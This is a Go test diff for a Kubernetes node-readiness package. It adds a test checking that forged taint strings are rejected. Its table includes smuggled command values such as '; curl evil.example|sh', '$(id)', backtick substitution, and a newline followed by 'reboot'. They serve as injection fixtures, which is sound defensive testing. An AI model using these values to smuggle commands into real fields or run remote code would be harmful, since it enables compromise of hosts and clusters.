@@ -1,6 +1,7 @@
 package readiness_test
 
 import (
+	"encoding/json"
 	"testing"
 	"time"
 
@@ -61,4 +62,29 @@ func TestAnOlderCompletionOfARuleNamedLikeAUIDIsKept(t *testing.T) {
 	name := string(uidOf("anything"))
 	n := worker(annotated(v1alpha1.CompletedPrefix+name, `{"rule-name":"`+name+`"}`))
 	untouched(n, rule(name, bootstrapOnly)).check(t)
+}
+
+// Any client that may write nodes can write a record, and a report about it names the taint in a command.
+func TestRecordTaintRejectsForgedText(t *testing.T) {
+	const valid = "readiness.k8s.io/NetworkReady"
+	for text, want := range map[string]bool{
+		valid + ":NoSchedule":                        true,
+		valid + ":Never":                             false,
+		"example.com/other:NoSchedule":               false,
+		"readiness.k8s.io/:NoSchedule":               false,
+		valid + "; curl evil.example|sh :NoSchedule": false,
+		valid + "$(id):NoSchedule":                   false,
+		valid + "`id`:NoSchedule":                    false,
+		valid + "\nreboot:NoSchedule":                false,
+		valid + "\x1b[2K:NoSchedule":                 false,
+		valid + ":NoSchedule\n":                      false,
+	} {
+		value, err := json.Marshal(map[string]string{"rule": "gone", "taint": text, "origin": "added"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if taint, ok := readiness.RecordTaint(string(value)); ok != want {
+			t.Errorf("%q: got %q, %v", text, taint, ok)
+		}
+	}
 }
